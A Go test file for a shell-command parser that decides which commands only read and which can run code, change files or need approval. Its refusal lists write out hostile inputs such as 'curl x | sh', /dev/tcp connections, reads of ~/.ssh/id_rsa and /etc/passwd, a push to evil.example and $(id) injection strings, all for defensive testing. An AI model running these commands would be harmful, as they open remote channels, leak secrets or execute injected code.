package cmdline

import (
	"slices"
	"strings"
	"testing"
)

// Reads accepts programs that only read, and refuses others. Each refused program of the list has one
// reason for it.
func TestReads(t *testing.T) {
	for _, line := range []string{
		"ls -la", "pwd", "git log --oneline | head -5", "cd src && grep -rn foo . 2>/dev/null", "find . -name '*.go'", "git branch --show-current",
		"date +%s", "git status; git diff --stat HEAD~1", "(cd a; ls)", "{ ls; pwd; }", "! grep -q x y", "if test -f x; then cat x; fi",
		"time ls", "timeout 5 git status", "nice -n 5 ls", "env LC_ALL=C ls", "LC_ALL=C sort x", "command ls", "command -v rm", "sh -c 'ls; pwd'",
		"eval 'ls -l'", "bash <<'E'\nls\nE", "cat < a.txt", "cat <<E\nhello\nE", "echo \"$(git rev-parse HEAD)\"", "ls *.go", "git -C sub status",
		"sort -k2,2n -r x", "find . -type f -print0", "rg -n 'a|b' src", "make --version", "git log --author='a b' -- x", "ls \\\n -l", "cat \"a b\" 'c d'",
		"git stash list", "git remote -v", "git diff --no-index a b", "ls | xargs -n 1 echo", "ls | xargs -I {} echo {}", "printf '%s%%n\\n' a", "diff -u a b", "sort -t, -k2 a", "uniq -c a", "file -b a", "git describe --always", "git diff --ignore-submodules", "\\time -p ls", "ls >/dev/null 2>&1", "[ -f x ] && cat x", "git log --first-parent --fixed-strings", "ls --colo?=auto", "sort a* b?",
		"[[ -f x ]]", "for i in a; do ls; done", "x=1", "grep -rn x .", "ls -R", "ls -lL", "find . -name L", "diff a b", "diff -r --no-dereference a b", "wc -l x", "sort --field-separator=, x", "md5sum a", "jq -r .a x.json", "du -sh .", "tree -L 2", "rg -l x",
	} {
		if ok, why := Parse(line).Reads(); !ok {
			t.Errorf("%q: %s", line, why)
		}
	}
	for _, line := range []string{
		"", "# nothing", "npm test", "/bin/ls", "./ls", "ls > out", "ls >> out", "ls &> out", "ls >| out", "ls <> out", "ls; rm a", "ls && rm a", "ls || rm a", "ls | sh",
		"ls & rm a", "cat $(rm a)", "cat `rm a`", "cat <(rm a)", "ls\nrm a", "ls $HOME", "cat $x", "echo $SECRET", "echo {a,b}", "cat <<E\n$x\nE", "cat ${x:=y}", "X=1 ls", "LD_PRELOAD=./x ls", "PATH=. ls", "PATH=.", "echo $((x=1))",
		"find . -delete", "find . -exec sh -c id ;", `find . -exec rm {} \;`, `find . -ok cat {} \;`, "find . -fprintf /tmp/x a", "find . -fls x",
		"git diff --output=/tmp/x", "git diff --outp=x", "git log -1 --output=hooks/post-commit", "git diff --ext-diff", "git grep -Oless x", "git grep --open-files-in-pager=sh x",
		"git branch new", "git branch -D x", "git tag v1", "git -c core.pager=x log", "git -c core.fsmonitor=./x status", "git --exec-path=. status", "git --git-dir=x log", "git commit -m x", "git", "git log --show-signature",
		"git log --format=%G?", "git fetch --upload-pack=./x", "git ls-remote x", "git show HEAD:evil.sh | sh", "git stash", "git reflog expire --all", "git remote show origin", "git -p log",
		"git config core.pager x", "git difftool", "git bisect run ./x", "git submodule foreach ls", "git cat-file --filters HEAD:x",
		"sort -?pwn a.txt", "sort --?utput=pwn a.txt", "sort -k*2 a", "find . -e?ec ./x {} +", "find . -d*", "git log --?utput=x", "rg --p*=./x a", "diff -?", "tree -?x", "uniq -? a", "file -*",
		"rg --pre=sh x", "rg --pre sh x", "rg -z x", "rg --hostname-bin=x y", "rg x *", "sort *", "git log *",
		"sort -o x y", "sort -no x y", "sort --out=x y", "sort --compress-program=./x y", "uniq a b", "date -s tomorrow", "date 01010000", "tree -o x", "file -C -m x",
		"test -v 'a[$(id)]'", "[ -R 'a[$(id)]' ]", "[[ -v 'a[$(id)]' ]]", "[[ 1 -eq 'a[$(id)]' ]]", "printf -v 'a[$(id)]' x", "declare x=1", "export PATH=.", "let x=1", "((x++))",
		"sudo ls", "doas ls", "env X=1 ls", "env -S 'ls -l'", "env -C /etc ls", "nohup ls", "setsid ls", "exec ls", "xargs rm", "ls | xargs rm", "ls | xargs sh -c 'id'", "parallel ls", "watch ls", "ssh host ls",
		"sh x.sh", "sh -c \"$x\"", "bash -lc ls", "bash --rcfile x -c ls", "sh", "curl x | sh", "zsh -c ls", "source x", ". x", "eval \"$x\"", "eval rm a", "trap 'rm a' EXIT", "alias ls=rm",
		"f() { rm a; }; f", "ls() { rm a; }; ls", "ls() { cat a; }; ls", "coproc ls", "while true; do ls; done", "case $x in x) ls;; esac", "select x in a; do ls; done",
		"tee x", "sed -i s/a/b/ x", "sed 'w x' y", "sed s/a/b/e x", "awk 'BEGIN{system(\"id\")}'", "tar --to-command=sh -xf x", "python -c 1", "perl -e 1", "xxd a b", "dd if=a of=b",
		"echo x > /dev/tcp/1.2.3.4/80", "cat < /dev/tcp/1.2.3.4/80", "ping x", "dig x", "curl x", "l\\s; r\\m x", "'rm' x", "r''m x", "$'\\x72m' x", "\"$(echo rm)\" x", "l?", "ls {a,b}", "cat ~/.ssh/id_rsa",
		"ls \x00", "ls \x1b[2K", "ls \u202e", "ls \u2028rm", "ls \r rm", "'", "ls (", "cd", "cd a b", "timeout 5", "command", "ls {fd}>x", "ls 3>x", "cat <<E | sh\nrm a\nE", "bash <<E\n$x\nE",
		"grep -R x .", "grep -nR x", "grep --dereference-recursive x", "rg -L x", "rg -nL x", "rg --follow x", "find -L .", "find . -follow", "find -files0-from x", "ls -LR", "ls -R --dereference", "diff -r a b", "diff -ur a b", "diff --recursive a b", "tree -l", "du -L", "du --files0-from=x",
		"wc --files0-from=x", "wc --f=x", "sort --files0-from=x", "sort --fil=x", "file -f x", "file --files-from x", "md5sum -c x", "sha256sum --check x", "strings @/etc/x", "strings -- @x", "strings *", "jq modulemeta", "jq -n env", "jq -n '$ENV.A'", "jq -nf x", "jq --from-file x", "jq -L / x", "jq -n 'import \"a\" as $a; 1'", "jq -n -- env", "xargs jq -n env", "timeout 5 grep -R x",
		"echo ./x | xargs -I echo echo", "echo ./x | xargs -tI echo echo", "echo ./x | xargs -Iecho echo", "echo ./x | xargs --replace=echo echo", "echo ./x | xargs -i {}", "echo . | xargs -I LANG= env LANG=./x echo", "xargs -a /etc/passwd echo", "xargs -I", "xargs -p echo",
		"printf 'aaa%n' PATH; x", "printf '%-5.3n' PATH", "diff -l a b", "diff --paginate a b", "diff -ul a b", "diff *", "sort -T sub x", "sort -uTsub x", "sort --temp=sub x", "sort --files0-from=x", "uniq -- -x out",
		"file -bCm x", "file -bp x", "file --preserve-date x", "file -bz x", "file --u x", "git grep -nO./x y", "git log --help", "git describe --dirty", "git describe --broken", "git log --remerge-diff", "git show --diff-merges=remerge",
		"git for-each-ref --format='%(signature:grade)'", "git diff --submodule=diff", "git log -p --subm=diff", "git status --ignore-submodules=none", "git ls-files --recurse-submodules", "\\time -ppwn ls", "command time -vopwn ls", "timeout 9 time -popwn ls", "ls | time -p cat x",
		"env -i rg x", "env -u PATH rg x", "env - rg x", "ionice -c 3 -p 1 ls", "LANGUAGE=x ls", "go version", "cargo --version", "node --version", "python3 --version",
		"time sh x", "cat <<< $(rm x)", "exec 3<>/dev/tcp/a/1", "hash -p ./x ls", "enable -f ./x ls", "git var GIT_EDITOR x", "ls " + strings.Repeat("$(", 400),
	} {
		if ok, _ := Parse(line).Reads(); ok {
			t.Errorf("%q passes for reading", line)
		}
	}
}

// Parse lists each command of a program, including nested ones.
func TestCommands(t *testing.T) {
	for line, want := range map[string]string{
		"a b; c | d && e || f & g":                       "a b|c|d|e|f|g",
		"a $(b `c`) <(d) > >(e)":                         "b `c`|c|d|a $(b `c`) <(d)|e",
		"sudo -u root rm -rf x":                          "rm -rf x|sudo -u root rm -rf x",
		"env A=1 timeout -k 1 5 npm test":                "npm test|timeout -k 1 5 npm test|env A=1 timeout -k 1 5 npm test",
		`find . -exec rm {} + -execdir mv {} x \;`:       "rm {}|mv {} x|find . -exec rm {} + -execdir mv {} x ;",
		"sh -c 'a; sh -c \"b c\"'":                       "a|b c|sh -c b c|sh -c a; sh -c \"b c\"",
		"f() { a; }":                                     "a",
		"if a; then b; elif c; then d; else e; fi":       "a|b|c|d|e",
		"while a; do b; done; for i in $(c); do d; done": "a|b|c|d|for i",
		"case $(a) in x) b;; esac":                       "a|b",
		"[[ $(a) ]]; ((x=$(b)))":                         "[[ $(a) ]]|a|b",
		"A=$(b) c":                                       "b|A=$(b) c",
		"a <<E\n$(b)\nE":                                 "b|a",
		"xargs -n 1 git push":                            "git push|xargs -n 1 git push",
		"eval a 'b; c'":                                  "a b|c|eval a b; c",
		"x=(a $(b)); ${y:-$(c)}":                         "b|c|x=(a $(b))|${y:-$(c)}",
	} {
		var got []string
		for _, c := range Parse(line).Commands {
			got = append(got, c.Text)
		}
		slices.Sort(got)
		exp := strings.Split(want, "|")
		slices.Sort(exp)
		if !slices.Equal(got, exp) {
			t.Errorf("%q:\ngot  %q\nwant %q", line, got, exp)
		}
	}
}

func TestKeys(t *testing.T) {
	for line, want := range map[string]string{
		"git push origin": "git push", "npm test": "npm test", "npm run build": "npm run build", "npm run": "", "ls -l": "ls", "echo x": "echo", "make": "", "./x": "", "sudo ls": "",
		"git log": "git log", "git log --output=x": "", "git branch -D x": "", "git branch -a": "git branch", "git -C x push": "", "git push --receive-pack=x": "", "sort -o x y": "", "find . -delete": "",
		"tar xf x": "tar", "tar --to-command=sh -xf x": "", "X=1 npm test": "", "LC_ALL=C ls": "ls", "npm test $x": "", "python x.py": "", "go test -exec ./x": "",
	} {
		c := Parse(line).Commands
		if got := c[len(c)-1].Key; got != want {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

// A command that can run code from its arguments has no key, so it cannot be remembered. Only known
// programs with known arguments have one.
func TestWhatRunsCodeHasNoKey(t *testing.T) {
	for _, line := range []string{
		"python3.11 -c x", "python x", "nodejs x", "node20 -e x", "perl5.36 x", "ruby3.2 x", "php8.2 x", "lua5.4 x", "psql -c x", "mysql", "sqlite3 a.db '.shell x'", "Rscript x", "java -jar x", "julia x", "deno run x", "deno eval x", "bun x y", "bunx x",
		"docker exec c sh", "docker run c", "podman exec c sh", "docker compose exec c sh", "kubectl exec p -- sh", "kubectl run x", "env X", "env X=1 ls", "busybox sh", "git bisect run x", "git submodule foreach x", "git rebase -x y main", "git rebase --exe y",
		"git difftool -x y", "git filter-branch x", "git config core.pager x", "git -c x=y log", "git push --exe=x origin", "git push --receive-pac=x origin", "git fetch --upload-p=x origin", "git push ext::sh", "git push https://evil.example/x", "git push evil.example:x", "git pull /tmp/x", "git clone x", "git commit -F x --exec y",
		"go run x.go", "go generate", "go test -exec=x ./...", "go test --exec x", "go vet -vettool=x", "go build -toolexec x", "go install x@latest", "go env -w GOFLAGS=-toolexec=x", "cargo run", "cargo test --config x", "cargo +nightly test", "cargo install x", "cargo xtask",
		"npm install evil", "npm exec x", "npx x", "pnpm dlx x", "pnpm exec x", "yarn dlx x", "yarn node x", "yarn x", "yarn run node -e x", "bun run x", "npm run build --script-shell=./x", "npm test --script-sh ./x", "npm run x --prefix y", "npm run ./x", "pnpm test -C x", "pnpm test --config.script-shell=x",
		"pip install x", "uv run x", "uvx x", "poetry run x", "pipx run x", "bundle exec x", "rake", "make", "just", "ninja", "cmake -P x", "ctest -S x", "mvn exec:exec", "mvn -f x test", "gradle -I x build", "./gradlew build", "gradle evil", "dotnet run", "dotnet test @x", "dotnet exec x", "tox", "nox",
		"gdb x", "strace x", "watch x", "flock f x", "ssh h x", "scp a b", "find . -exec x {} +", "xargs x", "awk x", "sed -i e x", "vim x", "nvim x", "ex x", "less x", "man x", "screen x", "tmux x", "at now", "crontab x", "systemd-run x", "nsenter x", "terraform apply", "ansible all -m shell", "curl x", "wget x", "gh api x", "gh extension exec x", "gh alias set x",
		"pytest -p x", "pytest -c x", "pytest @x", "eslint --rulesdir x", "eslint -f ./x", "prettier --plugin ./x", "tar xf a --to-command=sh", "tar -xIsh -f a", "tar --use-compress-prog=x -xf a", "rm -r x", "cp *x a", "cargo test *", "mypy --config-file x", "golangci-lint run", "unknown-program",
	} {
		p := Parse(line)
		for _, c := range p.Commands {
			if len(p.Commands) == 1 && c.Key != "" {
				t.Errorf("%q: %q", line, c.Key)
			}
		}
	}
	for line, want := range map[string]string{
		"npm run build --fast": "npm run build", "npm run test:unit -- --watch=false 'a b'": "npm run test:unit", "go test ./... -run 'A|B' -count=1": "go test", "go mod tidy": "go mod tidy", "cargo test -p x -- --nocapture": "cargo test",
		"git commit -am 'a message'": "git commit", "git push -u origin feature/x": "git push", "git push origin main:main": "git push", "gh pr view 12 --json title": "gh pr view", "docker logs -f --tail 10 web": "docker logs", "pytest -q tests/a.py::TestX -k 'a and b'": "pytest",
		"mkdir -p a/b": "mkdir", "tar xzf a.tgz -C b": "tar", "npm ci": "npm ci", "mvn -q clean test -Dtest=X": "mvn", "gofmt -l -w .": "gofmt",
	} {
		c := Parse(line).Commands
		if got := c[len(c)-1].Key; got != want || !IsKey(want) {
			t.Errorf("%q: %q (known: %v), want %q", line, got, IsKey(want), want)
		}
	}
	for _, key := range []string{"", "python", "python3.11", "nodejs", "docker exec", "git bisect", "git submodule", "gh pr", "make", "npm run node", "curl", "tar x", "ls -l"} {
		if IsKey(key) {
			t.Errorf("%q is a key", key)
		}
	}
}

func TestChanges(t *testing.T) {
	for line, want := range map[string]bool{
		"rm x": true, "ls; rm x": true, "ls $(rm x)": true, "sudo rm x": true, "sh -c 'rm x'": true, "find . -delete": true, `find . -exec rm {} \;`: true, "ls > x": true, "git commit": true,
		"git -C x push": true, "npm install": true, "sed -i s/a/b/ x": true, "/bin/rm x": true, "f() { rm x; }": true, "xargs rm": true, "git log --output=x": true, "sort -o x y": true, "uniq a b": true, "go install ./x": true,
		"npm test": false, "make": false, "ls": false, "git log": false, "sed s/a/b/ x": false, "python x.py": false, "command -v rm": false,
	} {
		if got, _ := Parse(line).Changes(); got != want {
			t.Errorf("%q: %v", line, got)
		}
	}
}

func TestDemands(t *testing.T) {
	for line, want := range map[string]string{
		"npm test": "", "npm test > x": ">", "LD_PRELOAD=x npm test": "LD_PRELOAD=", "git log --output=x": "--output", "sudo rm x": "rm", "find . -delete": "-delete", `find . -exec rm {} \;`: "rm -exec",
		"X=1": "X=", "for i in a; do npm test; done": "for ", "LC_ALL=C npm test": "", "tar --to-command=sh -x": "--to-command", "tar cIf ./x a b": "cIf", "tar -xIf ./x a": "-xIf", "rsync -ave ./x a b": "-ave", "curl -sK x": "-sK", "git clone -u ./x a": "-u", "git clone -c core.fsmonitor=./x a": "-c", "git difftool -x ./x": "-x", "fd -HIx ./x": "-HIx", "go test --exec=./x": "--exec",
	} {
		p := Parse(line)
		got := slices.Clone(p.Demands)
		for _, c := range p.Commands {
			got = append(got, c.Demands...)
		}
		if strings.Join(got, " ") != want {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

func TestPaths(t *testing.T) {
	for line, want := range map[string]string{
		"cat a ../b /c": "a ../b /c", "grep foo a": "a", "grep -e foo a": "a", "grep -r /api src": "src", "grep -f/etc/x y": "/etc/x y", "grep -f../x y": "../x y", "grep --file=../x y": "../x y",
		"ls *.go": "*.go", "cat < ../x": "../x", "git log -- ../x": "../x", "git log main": "main", "git diff --no-index a b": "a b", "git diff /a /b": "/a /b", "echo /a": "", "echo /a/*": "/a/*",

		// An option may have the pattern, or the name of a file, after other letters.
		"grep -ne. /c": "/c", "rg -ie x /c": "/c", "egrep -he. /c": "/c", "grep --reg=. /c": "/c", "grep --exclude-from /c x a": "/c a", "rg --ignore-file /c x a": "/c a",
		"grep -vf /c a": "/c a", "grep -xFf /c a": "/c a", "rg -cf /c a": "/c a", "grep -nfx a": "x a", "grep -n x a": "a", "grep -A5 x a": "a", "grep -A 5 x a": "a", "grep x a -e /c": "/c x a",
		"git grep -f/c x": "/c x", "git grep -vf/c": "/c", "git grep -f c x": "c x", "git -C d grep -vf c": "d/c", "git ls-files -oX/c": "/c", "git ls-files --exclude-from c": "c",
		"git blame -S ../c x": "../c x", "git blame --ignore-revs-file=c x": "c x", "git log -Sa/b": "", "git grep -- -fc": "", "git grep x -- /c": "/c", "grep -nrwiclsxvf/etc/x y": "/etc/x y",
		"sort --random-source -- -- -o": "-- -o", "jq --slurpfile a /c . b": "/c b", "find a -newer /c -name /d": "a /c", "find -name -- a": "", "ls -I /c a": "/c a", "head -n 1 a -n /c": "/c a", "sed -n 1p a": "a", "sed -n -e 1p a /c": "a /c",
		"cat -- -x /c": "-x /c", "diff --from-file=/c a": "/c a", "realpath --relative-to /c a": "/c a", "date -r /c": "/c", "rg -f /c --files /d": "/c /d",
	} {
		var got []string
		for _, c := range Parse(line).Commands {
			for _, p := range c.Paths {
				got = append(got, p.Name)
			}
		}
		if g := strings.Join(got, " "); g != want {
			t.Errorf("%q: %q, want %q", line, g, want)
		}
	}
}

func BenchmarkParse(b *testing.B) {
	for _, line := range []string{"npm test", "cd src && git log --oneline -- a.go | head -20", "sudo env A=1 sh -c 'rm -rf x; find . -exec rm {} +'"} {
		b.Run(line, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Parse(line)
			}
		})
	}
}

// Parse gives up on commands that are too long or too deeply nested.
func TestEndless(t *testing.T) {
	for _, text := range []string{
		strings.Repeat("echo $(", 8000) + strings.Repeat(")", 8000), strings.Repeat("( ", 20000) + "ls" + strings.Repeat(")", 20000), strings.Repeat("sudo ", 10000) + "ls",
		strings.Repeat("ls;", 20000), strings.Repeat("eval ", 9000), strings.Repeat("x", maxText+1), strings.Repeat("${a:-", 9000) + strings.Repeat("}", 9000),
	} {
		if p := Parse(text); p.Unresolved == "" {
			t.Errorf("Parse did not give up on %.20q...", text)
		}
	}
}
